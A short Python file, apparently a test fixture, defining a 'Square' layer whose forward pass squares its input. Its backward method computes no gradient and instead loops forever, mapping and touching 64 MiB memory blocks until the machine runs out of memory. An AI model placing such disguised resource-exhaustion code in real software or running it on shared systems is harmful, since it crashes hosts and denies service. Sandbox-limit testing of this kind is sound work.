"""Maps memory past Python's own allocator, and touches it."""

import mmap


class Square:
    def forward(self, x):
        return x * x

    def backward(self, dout):
        kept = []
        while True:
            kept.append(mmap.mmap(-1, 1 << 26))
            kept[-1][:: 1 << 12] = bytes(1 << 14)
